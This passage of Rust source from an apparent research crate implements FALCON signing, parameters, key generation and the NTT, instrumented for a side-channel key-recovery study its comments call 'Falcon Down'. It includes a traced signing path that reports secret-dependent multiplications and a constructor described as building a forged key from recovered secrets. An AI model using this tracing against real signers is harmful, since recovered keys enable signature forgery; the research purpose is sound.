        let (z0, z1) = ff_sampling(&t0, &t1, &sk.tree, sigma_min, rng);

        // (tz0, tz1) = t − z ; ŝ = (t − z)·B̂.
        let mut tz0 = t0.clone();
        poly_sub(&mut tz0, &z0);
        let mut tz1 = t1.clone();
        poly_sub(&mut tz1, &z1);

        // s1 = tz0·b00 + tz1·b10 ; s2 = tz0·b01 + tz1·b11.
        let mut s1 = tz0.clone();
        poly_mul_fft(&mut s1, &sk.b00);
        let mut tmp = tz1.clone();
        poly_mul_fft(&mut tmp, &sk.b10);
        poly_add(&mut s1, &tmp);

        let mut s2 = tz0;
        poly_mul_fft(&mut s2, &sk.b01);
        let mut tmp = tz1;
        poly_mul_fft(&mut tmp, &sk.b11);
        poly_add(&mut s2, &tmp);

        ifft(&mut s1);
        ifft(&mut s2);
        let s1i: Vec<i16> = s1.iter().map(|v| v.rint() as i16).collect();
        let s2i: Vec<i16> = s2.iter().map(|v| v.rint() as i16).collect();

        // The accept/reject decision is the scheme's specified output
        // conditioning and the accepted vector is published as the
        // signature; the branch mirrors the reference control flow.
        // ct: allow(rejection sampling on the published norm bound)
        if norm_sq(&[&s1i, &s2i]) > bound {
            continue;
        }
        // ct: end
        // Compression failure → new salt (outer loop).
        return Signature::from_parts(logn, salt, s2i);
    }
    // Statistically unreachable: the sampler emits short vectors with
    // overwhelming probability. Treat as a salt retry.
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::keygen::KeyPair;

    fn test_pair(seed: &[u8], logn: u32) -> KeyPair {
        let mut rng = Prng::from_seed(seed);
        KeyPair::generate(LogN::new(logn).unwrap(), &mut rng)
    }

    #[test]
    fn sign_verify_roundtrip_small() {
        let kp = test_pair(b"sign test 16", 4);
        let mut rng = Prng::from_seed(b"sig rng");
        for msg in [b"alpha".as_slice(), b"beta", b"", b"a longer message body 123"] {
            let sig = kp.signing_key().sign(msg, &mut rng);
            assert!(kp.verifying_key().verify(msg, &sig), "message {msg:?}");
            assert!(!kp.verifying_key().verify(b"other", &sig));
        }
    }

    #[test]
    fn signature_norm_within_bound() {
        let kp = test_pair(b"norm bound", 5);
        let mut rng = Prng::from_seed(b"norm rng");
        let logn = kp.signing_key().logn();
        for i in 0..10u8 {
            let sig = kp.signing_key().sign(&[i], &mut rng);
            let t = crate::ntt::NttTables::new(logn.logn());
            let c = hash_to_point(sig.salt(), &[i], logn.n());
            let s2h = crate::poly::mul_mod_q_centered(sig.s2(), kp.verifying_key().h(), &t);
            let s1: Vec<i16> = c
                .iter()
                .zip(&s2h)
                .map(|(&ci, &p)| {
                    crate::ntt::mq_to_signed(crate::ntt::mq_from_signed(ci as i32 - p as i32))
                        as i16
                })
                .collect();
            assert!(norm_sq(&[&s1, sig.s2()]) <= logn.l2_bound());
        }
    }

    #[test]
    fn encoding_roundtrip() {
        let kp = test_pair(b"encode", 4);
        let mut rng = Prng::from_seed(b"encode rng");
        let sig = kp.signing_key().sign(b"msg", &mut rng);
        let bytes = sig.to_bytes();
        assert_eq!(bytes.len(), kp.signing_key().logn().sig_bytes());
        let back = Signature::from_bytes(&bytes).expect("parses");
        assert_eq!(back, sig);
        assert!(Signature::from_bytes(&bytes[..10]).is_none());
        let mut bad = bytes.clone();
        bad[0] = 0x40;
        assert!(Signature::from_bytes(&bad).is_none());
    }

    #[test]
    fn traced_signature_still_verifies() {
        use falcon_fpr::RecordingObserver;
        let kp = test_pair(b"traced", 4);
        let mut rng = Prng::from_seed(b"traced rng");
        let mut obs = RecordingObserver::new();
        let sig = kp.signing_key().sign_traced(b"traced message", &mut rng, &mut obs);
        assert!(kp.verifying_key().verify(b"traced message", &sig));
        // One begin_coefficient per real multiplication: n/2 complex
        // coefficients × 4 multiplications (possibly × retries).
        let n = kp.signing_key().logn().n();
        assert!(obs.boundaries.len() >= n / 2 * 4);
        assert_eq!(obs.boundaries.len() % (n / 2 * 4), 0);
    }

    #[test]
    fn different_salts_give_different_signatures() {
        let kp = test_pair(b"salts", 4);
        let mut rng = Prng::from_seed(b"salts rng");
        let a = kp.signing_key().sign(b"m", &mut rng);
        let b = kp.signing_key().sign(b"m", &mut rng);
        assert_ne!(a.salt(), b.salt());
        assert!(kp.verifying_key().verify(b"m", &a));
        assert!(kp.verifying_key().verify(b"m", &b));
    }
}
