//! FALCON parameter sets.
//!
//! FALCON is parameterised by the ring degree `n = 2^logn` over
//! `Z[x]/(x^n + 1)` with the modulus `q = 12289`. The standard sets are
//! FALCON-512 (`logn = 9`) and FALCON-1024 (`logn = 10`); smaller degrees
//! are supported for tests exactly as in the reference implementation.

/// The FALCON modulus (`q = 12289 = 3·2^12 + 1`).
pub const Q: u32 = 12289;

/// Length in bytes of the random signature salt `r`.
pub const SALT_LEN: usize = 40;

/// Log2 of the ring degree; the validated parameter handle.
///
/// ```
/// use falcon_sig::params::LogN;
/// let p = LogN::N512;
/// assert_eq!(p.n(), 512);
/// assert_eq!(p.l2_bound(), 34_034_726);
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct LogN(u32);

impl LogN {
    /// FALCON-512.
    pub const N512: LogN = LogN(9);
    /// FALCON-1024.
    pub const N1024: LogN = LogN(10);

    /// Creates a parameter handle for `n = 2^logn`; valid range is
    /// `1..=10` (as in the reference code, small degrees are for tests).
    pub fn new(logn: u32) -> Option<LogN> {
        (1..=10).contains(&logn).then_some(LogN(logn))
    }

    /// The raw log2 degree.
    #[inline]
    pub fn logn(self) -> u32 {
        self.0
    }

    /// The ring degree `n`.
    #[inline]
    pub fn n(self) -> usize {
        1usize << self.0
    }

    /// Standard deviation `σ_{f,g} = 1.17·√(q/2n)` used when sampling the
    /// private polynomials `f` and `g` at key generation.
    pub fn sigma_fg(self) -> f64 {
        1.17 * (Q as f64 / (2.0 * self.n() as f64)).sqrt()
    }

    /// The signature sampler's standard deviation
    /// `σ = σ_min · 1.17 · √q` (165.736… for FALCON-512).
    pub fn sigma(self) -> f64 {
        self.sigma_min() * 1.17 * (Q as f64).sqrt()
    }

    /// Minimum per-leaf standard deviation `σ_min` accepted by SamplerZ,
    /// from the specification's smoothing-parameter formula with
    /// `ε = 1/√(2^64·λ)` (`λ = 128`, or 256 for FALCON-1024).
    pub fn sigma_min(self) -> f64 {
        let lambda = if self.0 == 10 { 256.0 } else { 128.0 };
        let inv_eps = (2f64.powi(64) * lambda).sqrt();
        let n = self.n() as f64;
        ((4.0 * n * (1.0 + inv_eps)).ln() / 2.0).sqrt() / core::f64::consts::PI
    }

    /// Maximum per-leaf standard deviation `σ_max = 1.8205`.
    pub fn sigma_max(self) -> f64 {
        1.8205
    }

    /// Squared acceptance bound `⌊β²⌋ = ⌊(1.1·σ·√(2n))²⌋` on signatures.
    ///
    /// Matches the specification values 34 034 726 (FALCON-512) and
    /// 70 265 242 (FALCON-1024).
    pub fn l2_bound(self) -> u64 {
        let sigma = self.sigma();
        (1.21 * sigma * sigma * 2.0 * self.n() as f64).floor() as u64
    }

    /// Total encoded signature length in bytes (header byte + salt +
    /// compressed, padded `s2`), per the reference implementation's
    /// padded-signature size formula: 666 bytes for FALCON-512 and 1280
    /// for FALCON-1024.
    pub fn sig_bytes(self) -> usize {
        let sh = 10 - self.0;
        (44 + 3 * (256usize >> sh)
            + 2 * (128usize >> sh)
            + 3 * (64usize >> sh)
            + 2 * (16usize >> sh))
            .saturating_sub(2 * (2usize >> sh) + 8 * (1usize >> sh))
    }

    /// Number of bytes available for the compressed `s2` inside
    /// [`LogN::sig_bytes`] (total minus header byte and salt).
    pub fn s2_bytes(self) -> usize {
        self.sig_bytes() - 1 - SALT_LEN
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spec_constants_reproduced() {
        assert_eq!(LogN::N512.n(), 512);
        assert!((LogN::N512.sigma_min() - 1.2778336969128337).abs() < 1e-12);
        assert!((LogN::N1024.sigma_min() - 1.298_280_334_344_292).abs() < 1e-12);
        assert!((LogN::N512.sigma() - 165.7366171829776).abs() < 1e-9);
        assert_eq!(LogN::N512.l2_bound(), 34_034_726);
        assert_eq!(LogN::N1024.l2_bound(), 70_265_242);
        assert_eq!(LogN::N512.sig_bytes(), 666);
        assert_eq!(LogN::N1024.sig_bytes(), 1280);
    }

    #[test]
    fn logn_validation() {
        assert!(LogN::new(0).is_none());
        assert!(LogN::new(11).is_none());
        for l in 1..=10 {
            let p = LogN::new(l).unwrap();
            assert_eq!(p.n(), 1 << l);
            assert!(p.sigma_fg() > 0.0);
            assert!(p.sigma_min() < p.sigma_max());
            assert!(p.l2_bound() > 0);
            assert!(p.s2_bytes() > 0);
        }
    }
}
