//! Key generation (the paper's Algorithm 1) and key types.
//!
//! `NTRUGen` samples the private polynomials `f, g` from a discrete
//! Gaussian, rejects poorly conditioned candidates (non-invertible `f`,
//! excessive Gram–Schmidt norm), solves the NTRU equation
//! `f·G − g·F = q` by the recursive field-norm descent with Babai size
//! reduction, and derives the public key `h = g·f⁻¹ mod q`, the
//! FFT-domain secret basis `B̂` and the ffLDL* sampling tree.

use crate::ffsampling::{gram, LdlTree};
use crate::fft::{fft, poly_from_ints, poly_neg};
use crate::ntt::NttTables;
use crate::params::{LogN, Q};
use crate::poly_big::{self, babai_reduce, field_norm, galois_conjugate, lift, PolyZ};
use crate::rng::Prng;
use crate::sign::{sign_inner, Signature};
use crate::zint::Zint;
use falcon_fpr::{Fpr, MulObserver, NullObserver};

/// Solves the NTRU equation: finds `(F, G)` with `f·G − g·F = q` over
/// `Z[x]/(x^m + 1)`, or `None` when the descent hits a non-coprime base
/// case (the caller resamples `f, g`).
pub fn ntru_solve(f: &[Zint], g: &[Zint]) -> Option<(PolyZ, PolyZ)> {
    if f.len() == 1 {
        let f0 = &f[0];
        let g0 = &g[0];
        if f0.is_zero() && g0.is_zero() {
            return None;
        }
        let (d, u, v) = Zint::xgcd(&f0.abs(), &g0.abs());
        if d != Zint::one() {
            return None;
        }
        // u·|f0| + v·|g0| = 1  ⇒  (±u)·f0 + (±v)·g0 = 1.
        let us = if f0.is_negative() { u.negated() } else { u };
        let vs = if g0.is_negative() { v.negated() } else { v };
        let q = Zint::from_i64(Q as i64);
        let capg = us.mul(&q);
        let capf = vs.mul(&q).negated();
        let mut capf = vec![capf];
        let mut capg = vec![capg];
        babai_reduce(f, g, &mut capf, &mut capg);
        return Some((capf, capg));
    }
    let fp = field_norm(f);
    let gp = field_norm(g);
    let (capf_p, capg_p) = ntru_solve(&fp, &gp)?;
    // Lift: F = F'(x²)·g(−x), G = G'(x²)·f(−x).
    let mut capf = poly_big::mul(&lift(&capf_p), &galois_conjugate(g));
    let mut capg = poly_big::mul(&lift(&capg_p), &galois_conjugate(f));
    babai_reduce(f, g, &mut capf, &mut capg);
    Some((capf, capg))
}

/// Checks `f·G − g·F = q` exactly.
pub fn ntru_equation_holds(f: &[i16], g: &[i16], capf: &[i16], capg: &[i16]) -> bool {
    let to_z = |v: &[i16]| -> PolyZ { v.iter().map(|&c| Zint::from_i64(c as i64)).collect() };
    let lhs =
        poly_big::sub(&poly_big::mul(&to_z(f), &to_z(capg)), &poly_big::mul(&to_z(g), &to_z(capf)));
    if lhs[0].to_i64() != Some(Q as i64) {
        return false;
    }
    lhs[1..].iter().all(Zint::is_zero)
}

/// Samples one private polynomial coefficient set from the discrete
/// Gaussian with `σ = σ_fg(logn)` via an inverse-CDT over 63-bit uniform
/// randomness.
fn sample_fg(logn: LogN, rng: &mut Prng) -> Vec<i16> {
    let sigma = logn.sigma_fg();
    let kmax = (10.0 * sigma).ceil() as i64;
    // Cumulative table over k = -kmax..=kmax.
    let weights: Vec<f64> =
        (-kmax..=kmax).map(|k| (-(k * k) as f64 / (2.0 * sigma * sigma)).exp()).collect();
    // ct: allow(sequential fold over a fixed-order spec table)
    let total: f64 = weights.iter().sum();
    let mut cum = Vec::with_capacity(weights.len());
    let mut acc = 0.0f64;
    for w in &weights {
        acc += w / total;
        cum.push((acc * 2f64.powi(63)) as u64);
    }
    (0..logn.n())
        .map(|_| {
            let u = rng.next_u64() >> 1;
            let idx = cum.partition_point(|&c| c <= u);
            (idx as i64 - kmax).clamp(i16::MIN as i64, i16::MAX as i64) as i16
        })
        .collect()
}

/// Gram–Schmidt acceptance test from the specification: both the norm of
/// `(g, −f)` and of the dual vector `q·(f̄, ḡ)/(f f̄ + g ḡ)` must be at
/// most `1.17²·q`.
fn gs_norm_ok(f: &[i16], g: &[i16]) -> bool {
    let bound = 1.17 * 1.17 * Q as f64;
    // ct: allow(sequential in-order coefficient sum from the spec)
    let sq: f64 = f.iter().chain(g.iter()).map(|&c| (c as f64) * (c as f64)).sum();
    if sq > bound {
        return false;
    }
    let n = f.len() as f64;
    let fa = poly_big::fft64(&f.iter().map(|&c| c as f64).collect::<Vec<_>>());
    let ga = poly_big::fft64(&g.iter().map(|&c| c as f64).collect::<Vec<_>>());
    let mut acc = 0f64;
    for (x, y) in fa.iter().zip(ga.iter()) {
        let den = x.norm_sq() + y.norm_sq();
        if den < 1e-9 {
            return false;
        }
        acc += (Q as f64) * (Q as f64) / den;
    }
    (2.0 / n) * acc <= bound
}

/// The private signing key: the four NTRU polynomials together with the
/// precomputed FFT basis and the ffLDL* sampling tree.
#[derive(Debug, Clone)]
pub struct SigningKey {
    // ct: public(logn, h)
    logn: LogN,
    f: Vec<i16>,
    g: Vec<i16>,
    capf: Vec<i16>,
    capg: Vec<i16>,
    /// B̂ rows: b00 = FFT(g), b01 = FFT(−f), b10 = FFT(G), b11 = FFT(−F).
    pub(crate) b00: Vec<Fpr>,
    pub(crate) b01: Vec<Fpr>,
    pub(crate) b10: Vec<Fpr>,
    pub(crate) b11: Vec<Fpr>,
    /// FFT(f) — the secret operand of the attacked multiplication.
    pub(crate) f_fft: Vec<Fpr>,
    /// FFT(F).
    pub(crate) capf_fft: Vec<Fpr>,
    pub(crate) tree: LdlTree,
    h: Vec<u16>,
}

/// The public verification key `h = g·f⁻¹ mod q`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VerifyingKey {
    logn: LogN,
    h: Vec<u16>,
}

/// A freshly generated key pair.
#[derive(Debug, Clone)]
pub struct KeyPair {
    sk: SigningKey,
    vk: VerifyingKey,
}

impl KeyPair {
    /// Runs `NTRUGen` until an acceptable key materialises.
    pub fn generate(logn: LogN, rng: &mut Prng) -> KeyPair {
        loop {
            let f = sample_fg(logn, rng);
            let g = sample_fg(logn, rng);
            if let Some(kp) = Self::try_from_fg(logn, &f, &g) {
                return kp;
            }
        }
    }

    /// Attempts to complete a key pair from candidate `(f, g)`; `None`
    /// when any acceptance test fails.
    pub fn try_from_fg(logn: LogN, f: &[i16], g: &[i16]) -> Option<KeyPair> {
        let n = logn.n();
        assert_eq!(f.len(), n);
        assert_eq!(g.len(), n);
        if !gs_norm_ok(f, g) {
            return None;
        }
        // h = g·f⁻¹ mod q (also proves invertibility of f).
        let tables = NttTables::new(logn.logn());
        let fq: Vec<u32> = f.iter().map(|&v| crate::ntt::mq_from_signed(v as i32)).collect();
        let gq: Vec<u32> = g.iter().map(|&v| crate::ntt::mq_from_signed(v as i32)).collect();
        let finv = tables.poly_inv(&fq)?;
        let h: Vec<u16> = tables.poly_mul(&gq, &finv).into_iter().map(|v| v as u16).collect();

        let to_z = |v: &[i16]| -> PolyZ { v.iter().map(|&c| Zint::from_i64(c as i64)).collect() };
        let (capf_z, capg_z) = ntru_solve(&to_z(f), &to_z(g))?;
        let cap_to_i16 = |p: &PolyZ| -> Option<Vec<i16>> {
            p.iter().map(|c| c.to_i64().and_then(|v| i16::try_from(v).ok())).collect()
        };
        let capf = cap_to_i16(&capf_z)?;
        let capg = cap_to_i16(&capg_z)?;
        debug_assert!(ntru_equation_holds(f, g, &capf, &capg));

        // Enforce the key-encoding field widths (the specification's
        // keygen resamples such keys too).
        let fg_lim = 1i16 << (crate::keys::max_fg_bits(logn.logn()) - 1);
        if f.iter().chain(g.iter()).any(|&c| c <= -fg_lim || c >= fg_lim) {
            return None;
        }
        let cap_lim = 1i16 << (crate::keys::max_capfg_bits(logn.logn()) - 1);
        if capf.iter().chain(capg.iter()).any(|&c| c <= -cap_lim || c >= cap_lim) {
            return None;
        }

        let sk = SigningKey::from_private(logn, f, g, &capf, &capg, h.clone());
        let vk = VerifyingKey { logn, h };
        Some(KeyPair { sk, vk })
    }

    /// The signing half.
    pub fn signing_key(&self) -> &SigningKey {
        &self.sk
    }

    /// The verification half.
    pub fn verifying_key(&self) -> &VerifyingKey {
        &self.vk
    }

    /// Splits the pair into its halves.
    pub fn into_parts(self) -> (SigningKey, VerifyingKey) {
        (self.sk, self.vk)
    }
}

impl SigningKey {
    /// Builds the full signing state (FFT basis, Gram tree) from the four
    /// private polynomials and the public key.
    ///
    /// This is also the entry point used by the *Falcon Down* attack once
    /// it has recovered `(f, g, F, G)`: a forged key built here is
    /// functionally identical to the victim's.
    pub fn from_private(
        logn: LogN,
        f: &[i16],
        g: &[i16],
        capf: &[i16],
        capg: &[i16],
        h: Vec<u16>,
    ) -> SigningKey {
        let n = logn.n();
        assert!(f.len() == n && g.len() == n && capf.len() == n && capg.len() == n);
        let fft_of = |v: &[i16], negate: bool| -> Vec<Fpr> {
            let mut p = poly_from_ints(v);
            if negate {
                poly_neg(&mut p);
            }
            fft(&mut p);
            p
        };
        let b00 = fft_of(g, false);
        let b01 = fft_of(f, true);
        let b10 = fft_of(capg, false);
        let b11 = fft_of(capf, true);
        let f_fft = fft_of(f, false);
        let capf_fft = fft_of(capf, false);
        let (g00, g01, g11) = gram(&b00, &b01, &b10, &b11);
        let tree = LdlTree::build(&g00, &g01, &g11, Fpr::from(logn.sigma()));
        SigningKey {
            logn,
            f: f.to_vec(),
            g: g.to_vec(),
            capf: capf.to_vec(),
            capg: capg.to_vec(),
            b00,
            b01,
            b10,
            b11,
            f_fft,
            capf_fft,
            tree,
            h,
        }
    }

    /// The parameter set.
    pub fn logn(&self) -> LogN {
        self.logn
    }

    /// The private polynomial `f`.
    pub fn f(&self) -> &[i16] {
        &self.f
    }

    /// The private polynomial `g`.
    pub fn g(&self) -> &[i16] {
        &self.g
    }

    /// The private polynomial `F`.
    pub fn cap_f(&self) -> &[i16] {
        &self.capf
    }

    /// The private polynomial `G`.
    pub fn cap_g(&self) -> &[i16] {
        &self.capg
    }

    /// The FFT-domain secret `FFT(f)` (what the side-channel attack
    /// reconstructs; exposed for ground-truth comparisons in tests and
    /// experiments).
    pub fn f_fft(&self) -> &[Fpr] {
        &self.f_fft
    }

    /// The public key polynomial.
    pub fn h(&self) -> &[u16] {
        &self.h
    }

    /// Signs a message (Algorithm 2).
    pub fn sign(&self, msg: &[u8], rng: &mut Prng) -> Signature {
        sign_inner(self, msg, rng, &mut NullObserver)
    }

    /// Signs a message while reporting the micro-operations of the
    /// `FFT(c) ⊙ FFT(f)` pointwise multiplication — the computation the
    /// *Falcon Down* attack measures — to `obs`.
    pub fn sign_traced<O: MulObserver>(
        &self,
        msg: &[u8],
        rng: &mut Prng,
        obs: &mut O,
    ) -> Signature {
        sign_inner(self, msg, rng, obs)
    }
}

impl VerifyingKey {
    /// Builds a verifying key from the raw public polynomial.
    pub fn from_h(logn: LogN, h: Vec<u16>) -> VerifyingKey {
        assert_eq!(h.len(), logn.n());
        VerifyingKey { logn, h }
    }

    /// The parameter set.
    pub fn logn(&self) -> LogN {
        self.logn
    }

    /// The public key polynomial `h` (coefficients in `[0, q)`).
    pub fn h(&self) -> &[u16] {
        &self.h
    }

    /// Verifies `sig` over `msg`; see [`crate::verify`].
    pub fn verify(&self, msg: &[u8], sig: &Signature) -> bool {
        crate::verify::verify(self, msg, sig)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn to_z(v: &[i64]) -> PolyZ {
        v.iter().map(|&c| Zint::from_i64(c)).collect()
    }

    #[test]
    fn ntru_solve_base_case() {
        // f = 3, g = 2 (coprime): 3G - 2F = 12289.
        let (capf, capg) = ntru_solve(&to_z(&[3]), &to_z(&[2])).expect("coprime");
        let lhs = Zint::from_i64(3).mul(&capg[0]).sub(&Zint::from_i64(2).mul(&capf[0]));
        assert_eq!(lhs.to_i64(), Some(12289));
    }

    #[test]
    fn ntru_solve_non_coprime_fails() {
        assert!(ntru_solve(&to_z(&[4]), &to_z(&[2])).is_none());
        assert!(ntru_solve(&to_z(&[0]), &to_z(&[0])).is_none());
    }

    #[test]
    fn ntru_solve_small_degrees() {
        let mut rng = Prng::from_seed(b"ntru solve test");
        for logn in [1u32, 2, 3, 4] {
            let logn = LogN::new(logn).unwrap();
            let mut solved = 0;
            for _ in 0..20 {
                let f = sample_fg(logn, &mut rng);
                let g = sample_fg(logn, &mut rng);
                let fz: PolyZ = f.iter().map(|&c| Zint::from_i64(c as i64)).collect();
                let gz: PolyZ = g.iter().map(|&c| Zint::from_i64(c as i64)).collect();
                if let Some((capf, capg)) = ntru_solve(&fz, &gz) {
                    // Exact equation check over Zint.
                    let lhs = poly_big::sub(&poly_big::mul(&fz, &capg), &poly_big::mul(&gz, &capf));
                    assert_eq!(lhs[0].to_i64(), Some(Q as i64), "logn={:?}", logn);
                    assert!(lhs[1..].iter().all(Zint::is_zero));
                    solved += 1;
                }
            }
            assert!(solved > 0, "no solvable instance at logn={:?}", logn);
        }
    }

    #[test]
    fn sample_fg_statistics() {
        let mut rng = Prng::from_seed(b"fg stats");
        let logn = LogN::new(6).unwrap();
        let mut sum = 0f64;
        let mut sq = 0f64;
        let mut count = 0usize;
        for _ in 0..200 {
            for c in sample_fg(logn, &mut rng) {
                sum += c as f64;
                sq += (c as f64) * (c as f64);
                count += 1;
            }
        }
        let mean = sum / count as f64;
        let var = sq / count as f64 - mean * mean;
        let sigma = logn.sigma_fg();
        assert!(mean.abs() < 0.5, "mean={mean}");
        assert!((var - sigma * sigma).abs() < sigma * sigma * 0.1, "var={var}");
    }

    #[test]
    fn generate_small_keypair() {
        let mut rng = Prng::from_seed(b"keygen small");
        let logn = LogN::new(4).unwrap();
        let kp = KeyPair::generate(logn, &mut rng);
        assert!(ntru_equation_holds(
            kp.signing_key().f(),
            kp.signing_key().g(),
            kp.signing_key().cap_f(),
            kp.signing_key().cap_g()
        ));
        // h·f = g mod q.
        let t = NttTables::new(logn.logn());
        let hf = crate::poly::mul_mod_q_centered(kp.signing_key().f(), kp.verifying_key().h(), &t);
        assert_eq!(&hf, kp.signing_key().g());
        // Tree has n leaves, all in [sigma_min, sigma_max].
        let sigmas = kp.signing_key().tree.leaf_sigmas();
        assert_eq!(sigmas.len(), logn.n());
        for s in sigmas {
            let v = s.to_f64();
            assert!(v >= logn.sigma_min() - 1e-9, "leaf sigma {v} below min");
            assert!(v <= logn.sigma_max() + 1e-9, "leaf sigma {v} above max");
        }
    }
}
