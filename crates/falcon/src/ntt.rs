//! Number-theoretic transform modulo `q = 12289`.
//!
//! FALCON verification works entirely over `Z_q[x]/(x^n + 1)`; since
//! `q − 1 = 3·2^12`, the field has roots of unity of order up to 4096 and
//! supports a negacyclic NTT for every supported degree. Key generation
//! also uses it to check invertibility of `f` and to compute the public
//! key `h = g·f⁻¹ mod q`.
//!
//! The paper's §V.C contrasts the side-channel behaviour of this integer
//! transform with the floating-point FFT; the benchmark harness drives
//! the same differential attack against [`mq_mul`] intermediates.

use crate::params::Q;

/// Modular addition in `Z_q`.
#[inline]
pub fn mq_add(a: u32, b: u32) -> u32 {
    let s = a + b;
    if s >= Q {
        s - Q
    } else {
        s
    }
}

/// Modular subtraction in `Z_q`.
#[inline]
pub fn mq_sub(a: u32, b: u32) -> u32 {
    if a >= b {
        a - b
    } else {
        a + Q - b
    }
}

/// Modular multiplication in `Z_q`.
#[inline]
pub fn mq_mul(a: u32, b: u32) -> u32 {
    ((a as u64 * b as u64) % Q as u64) as u32
}

/// Modular exponentiation in `Z_q`.
pub fn mq_pow(mut base: u32, mut exp: u32) -> u32 {
    let mut acc = 1u32;
    base %= Q;
    while exp > 0 {
        if exp & 1 == 1 {
            acc = mq_mul(acc, base);
        }
        base = mq_mul(base, base);
        exp >>= 1;
    }
    acc
}

/// Modular inverse in `Z_q` (q is prime; `a` must be nonzero mod q).
pub fn mq_inv(a: u32) -> u32 {
    debug_assert!(!a.is_multiple_of(Q));
    mq_pow(a, Q - 2)
}

/// Finds the least primitive root of `Z_q*` (it is 11 for q = 12289; the
/// search keeps the function self-verifying).
fn primitive_root() -> u32 {
    'cand: for g in 2..Q {
        // q - 1 = 2^12 * 3; g is primitive iff g^((q-1)/2) != 1 and
        // g^((q-1)/3) != 1.
        for p in [2u32, 3] {
            if mq_pow(g, (Q - 1) / p) == 1 {
                continue 'cand;
            }
        }
        return g;
    }
    unreachable!("q is prime; a primitive root exists")
}

/// Precomputed tables for one transform size.
#[derive(Debug, Clone)]
pub struct NttTables {
    logn: u32,
    /// psi^i for i in 0..n, psi a primitive 2n-th root of unity, in
    /// bit-reversed order (forward butterflies).
    gm: Vec<u32>,
    /// psi^-i in bit-reversed order (inverse butterflies).
    igm: Vec<u32>,
    /// n^-1 mod q.
    ninv: u32,
}

fn bit_rev(x: u32, bits: u32) -> u32 {
    x.reverse_bits() >> (32 - bits)
}

impl NttTables {
    /// Builds the tables for degree `n = 2^logn`.
    pub fn new(logn: u32) -> NttTables {
        assert!((1..=12).contains(&logn));
        let n = 1usize << logn;
        let g = primitive_root();
        let psi = mq_pow(g, (Q - 1) / (2 * n as u32));
        let ipsi = mq_inv(psi);
        let mut gm = vec![0u32; n];
        let mut igm = vec![0u32; n];
        for i in 0..n {
            let r = bit_rev(i as u32, logn);
            gm[i] = mq_pow(psi, r);
            igm[i] = mq_pow(ipsi, r);
        }
        let ninv = mq_inv(n as u32);
        NttTables { logn, gm, igm, ninv }
    }

    /// The transform degree.
    pub fn n(&self) -> usize {
        1 << self.logn
    }

    /// In-place forward negacyclic NTT (Cooley–Tukey, natural order in,
    /// bit-reversed internal order, natural order out after [`Self::intt`]).
    pub fn ntt(&self, a: &mut [u32]) {
        let n = self.n();
        assert_eq!(a.len(), n);
        let mut t = n;
        let mut m = 1usize;
        while m < n {
            t >>= 1;
            for i in 0..m {
                let s = self.gm[m + i];
                let j1 = 2 * i * t;
                for j in j1..j1 + t {
                    let u = a[j];
                    let v = mq_mul(a[j + t], s);
                    a[j] = mq_add(u, v);
                    a[j + t] = mq_sub(u, v);
                }
            }
            m <<= 1;
        }
    }

    /// In-place inverse negacyclic NTT (Gentleman–Sande).
    pub fn intt(&self, a: &mut [u32]) {
        let n = self.n();
        assert_eq!(a.len(), n);
        let mut t = 1usize;
        let mut m = n;
        while m > 1 {
            let hm = m >> 1;
            for i in 0..hm {
                let s = self.igm[hm + i];
                let j1 = 2 * i * t;
                for j in j1..j1 + t {
                    let u = a[j];
                    let v = a[j + t];
                    a[j] = mq_add(u, v);
                    a[j + t] = mq_mul(mq_sub(u, v), s);
                }
            }
            t <<= 1;
            m = hm;
        }
        for x in a.iter_mut() {
            *x = mq_mul(*x, self.ninv);
        }
    }

    /// Negacyclic product of two polynomials in coefficient form.
    pub fn poly_mul(&self, a: &[u32], b: &[u32]) -> Vec<u32> {
        let mut fa = a.to_vec();
        let mut fb = b.to_vec();
        self.ntt(&mut fa);
        self.ntt(&mut fb);
        for (x, y) in fa.iter_mut().zip(fb.iter()) {
            *x = mq_mul(*x, *y);
        }
        self.intt(&mut fa);
        fa
    }

    /// Returns `f⁻¹ mod (x^n + 1, q)` if `f` is invertible.
    pub fn poly_inv(&self, f: &[u32]) -> Option<Vec<u32>> {
        let mut ff = f.to_vec();
        self.ntt(&mut ff);
        if ff.contains(&0) {
            return None;
        }
        for v in ff.iter_mut() {
            *v = mq_inv(*v);
        }
        self.intt(&mut ff);
        Some(ff)
    }
}

/// Maps a signed coefficient to its representative in `[0, q)`.
#[inline]
pub fn mq_from_signed(v: i32) -> u32 {
    v.rem_euclid(Q as i32) as u32
}

/// Maps a `[0, q)` representative to the centered range `(-q/2, q/2]`.
#[inline]
pub fn mq_to_signed(v: u32) -> i32 {
    let v = v as i32;
    if v > (Q as i32) / 2 {
        v - Q as i32
    } else {
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn primitive_root_is_11() {
        assert_eq!(primitive_root(), 11);
    }

    #[test]
    fn ntt_roundtrip_all_sizes() {
        for logn in 1..=10 {
            let t = NttTables::new(logn);
            let n = t.n();
            let orig: Vec<u32> = (0..n).map(|i| (i as u32 * 37 + 5) % Q).collect();
            let mut a = orig.clone();
            t.ntt(&mut a);
            t.intt(&mut a);
            assert_eq!(a, orig, "logn={logn}");
        }
    }

    #[allow(clippy::needless_range_loop)] // (i, j) are polynomial exponents
    fn schoolbook_negacyclic(a: &[u32], b: &[u32]) -> Vec<u32> {
        let n = a.len();
        let mut r = vec![0i64; n];
        for i in 0..n {
            for j in 0..n {
                let k = (i + j) % n;
                let sgn: i64 = if i + j >= n { -1 } else { 1 };
                r[k] += sgn * a[i] as i64 * b[j] as i64;
            }
        }
        r.into_iter().map(|v| v.rem_euclid(Q as i64) as u32).collect()
    }

    #[test]
    fn ntt_multiplication_matches_schoolbook() {
        for logn in [1u32, 3, 5, 6] {
            let t = NttTables::new(logn);
            let n = t.n();
            let a: Vec<u32> = (0..n).map(|i| (i as u32 * 101 + 7) % Q).collect();
            let b: Vec<u32> = (0..n).map(|i| (i as u32 * 523 + 11) % Q).collect();
            assert_eq!(t.poly_mul(&a, &b), schoolbook_negacyclic(&a, &b), "logn={logn}");
        }
    }

    #[test]
    fn poly_inverse_works() {
        let t = NttTables::new(5);
        let n = t.n();
        let f: Vec<u32> = (0..n).map(|i| ((i as u32 * 91) + 3) % Q).collect();
        if let Some(fi) = t.poly_inv(&f) {
            let prod = t.poly_mul(&f, &fi);
            let mut want = vec![0u32; n];
